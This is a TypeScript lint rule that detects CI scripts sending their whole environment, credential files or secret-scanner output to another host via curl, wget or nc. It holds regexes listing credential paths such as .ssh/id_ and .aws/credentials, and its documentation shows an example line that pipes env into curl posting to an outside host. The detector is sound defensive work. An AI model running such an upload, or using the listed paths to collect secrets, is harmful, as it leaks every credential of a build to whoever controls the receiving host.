import {
  cover,
  isLocalAddress,
  optionsOf,
  substitutedIn,
  upstream,
} from '../../server/core/parse/shell/query.ts';
import type { Command, Stretch, Word } from '../../server/core/parse/shell.ts';
import { defineRule } from '../../server/core/rule.ts';

const SENDER_HINT = /\b(?:curl|wget|nc|ncat|netcat|http|https)\b/;
const CARGO_HINT =
  /\b(?:env|printenv)\s{0,9}[|)`]|\b(?:trufflehog|gitleaks)\b|\.aws\/|\.netrc|\.npmrc|\.pypirc|\.ssh\/|\.kube\/|\.docker\/|\.git-credentials|\/environ\b/;
const SENDERS = /^(?:curl|wget|nc|ncat|netcat)$/;
const DATA = [
  '-d',
  '--data',
  '--data-raw',
  '--data-binary',
  '--data-ascii',
  '--data-urlencode',
  '--json',
  '-F',
  '--form',
  '--form-string',
  '-T',
  '--upload-file',
  '--post-data',
  '--post-file',
  '--body-data',
  '--body-file',
];
/** Files that hold credentials of the job. */
const FILES =
  /(?:\.aws\/credentials|\.netrc|\.npmrc|\.pypirc|\.ssh\/id_|\.kube\/config|\.docker\/config\.json|\.git-credentials|\/proc\/(?:self|\d+)\/environ)/;
const HOMES =
  /^(?:--?[\w-]+=)?https?:\/\/(?:[^/@\s]*@)?(?:[\w-]+\.)*(?:github\.com|githubusercontent\.com|ghcr\.io|gitlab\.com|amazonaws\.com)(?:[:/?]|$)|\$\{?(?:GITHUB_(?:API|SERVER)_URL|CI_(?:API_V4|SERVER|PROJECT|DEPENDENCY_PROXY)_URL|ACTIONS_ID_TOKEN_REQUEST_URL|ACTIONS_\w+_URL)|github\.(?:api|server)_url/;

export default defineRule({
  id: 'environment-sent-away',
  summary: 'A script sends its whole environment or a credential file to another host',
  severity: 'critical',
  confidence: 'medium',
  profile: 'default',
  owasp: ['CICD-SEC-6'],
  cwe: [201, 522],
  since: '0.1.0',
  fix: 'none',
  equivalents: { 'pipeline-check': ['GHA-057', 'GHA-027', 'GL-025'] },
  docs: `
    ## What it does
    Reports uploads by \`curl\`, \`wget\` or \`nc\` of the whole environment (\`env | curl …\`, \`-d "$(printenv)"\`), of a
    credential file or of what a secret scanner found. Addresses of GitHub, GitLab, AWS and the machine itself are left
    alone.

    ## Why is this bad?
    This is how stolen pipelines deliver. Where it is meant as telemetry, whoever runs or takes over the other host gets
    every credential of every build.

    ## Example
    \`\`\`yaml bad .github/workflows/ci.yml
    on: push
    permissions: {}
    jobs:
      build:
        runs-on: ubuntu-latest
        steps:
          - run: env | curl -X POST --data-binary @- https://telemetry.example.com/builds
    \`\`\`
    Use instead:
    \`\`\`yaml good .github/workflows/ci.yml
    on: push
    permissions: {}
    jobs:
      build:
        runs-on: ubuntu-latest
        steps:
          - run: |
              curl -X POST -H "Authorization: Bearer $TOKEN" --data "commit=$GITHUB_SHA" https://telemetry.example.com/builds
            env:
              TOKEN: \${{ secrets.TELEMETRY_TOKEN }}
    \`\`\`
  `,
  check: {
    script(ctx, script) {
      if (!SENDER_HINT.test(script.text) || !CARGO_HINT.test(script.text)) return;
      for (const command of script.commands) {
        if (!SENDERS.test(command.name) || staysHome(command)) continue;
        const source = dumpBefore(command);
        const data = optionsOf(command.args, DATA);
        const dump = source ?? data.find(({ word, value }) => FILES.test(value) || dumps(word));
        if (!dump) continue;
        ctx.report({
          span: script.spanOf(cover(dump, command)),
          message:
            'This sends every secret of the job to another host; send only what that host needs to know.',
        });
      }
    },
  },
});

function staysHome(command: Command): boolean {
  return command.args.some(({ text }) => HOMES.test(text) || isLocalAddress(text));
}

/** A command whose output is the environment or a list of secrets, and is piped into this one. */
function dumpBefore(command: Command): Stretch | undefined {
  return upstream(command).find(
    (before) => isDump(before) || (before.name === 'cat' && before.args.some(({ text }) => FILES.test(text))),
  );
}

/** True when a substitution in the word prints the environment. */
function dumps(word: Word | undefined): boolean {
  return substitutedIn(word, 'command').some(
    (command) =>
      isDump(command) ||
      upstream(command).some(isDump) ||
      (command.name === 'cat' && command.args.some(({ text }) => FILES.test(text))),
  );
}

function isDump({ name, nameWord, args, assignments }: Command): boolean {
  if (name === 'trufflehog' || name === 'gitleaks') return true;
  // `env A=b program` is not a dump, and the parser looks through it.
  return (
    /^(?:env|printenv)$/.test(name) &&
    nameWord !== undefined &&
    args.every(({ text }) => text.startsWith('-')) &&
    assignments.length === 0
  );
}
